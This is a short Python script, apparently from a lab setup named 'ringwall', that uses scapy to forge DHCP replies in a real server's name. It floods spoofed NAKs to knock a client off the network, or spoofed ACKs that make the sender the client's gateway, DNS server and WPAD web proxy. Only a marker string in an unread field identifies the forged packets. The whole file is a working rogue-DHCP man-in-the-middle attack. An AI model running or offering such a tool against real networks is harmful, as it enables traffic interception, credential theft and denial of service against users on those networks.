"""Answers a DHCP client in its server's name, again and again for a while.

Arguments: kind (nak or ack), interface, own hardware and protocol address, the client's hardware and protocol address, the
server's protocol address, the transaction as the client's DISCOVER told everybody (hexadecimal), seconds.
"""
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, mac2str

conf.verb = 0
kind, interface, own_mac, own, client_mac, client, server, transaction, seconds = sys.argv[1:10]
# By this, in a field that nobody reads, the witnesses know these messages.
MARK = b"ringwall lab, forged DHCP"
options = [("message-type", kind), ("server_id", server)]
if kind == "ack":
    options += [("lease_time", 600), ("subnet_mask", "255.255.255.0"), ("router", own), ("name_server", own)]
    # A proxy for web browsers (WPAD).
    options += [(252, b"http://" + own.encode() + b"/wpad.dat")]
bootp = BOOTP(
    op=2,
    xid=int(transaction, 16),
    chaddr=mac2str(client_mac),
    yiaddr=client if kind == "ack" else "0.0.0.0",
    sname=MARK,
)
datagram = IP(src=server, dst="255.255.255.255") / UDP(sport=67, dport=68) / bootp / DHCP(options=options + ["end"])
answer = bytes(Ether(src=own_mac, dst=client_mac) / datagram)
socket = conf.L2socket(iface=interface)
print("sending", flush=True)
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    socket.outs.send(answer)
    # Fast enough to be there before the server's own answer.
    time.sleep(0.0005)
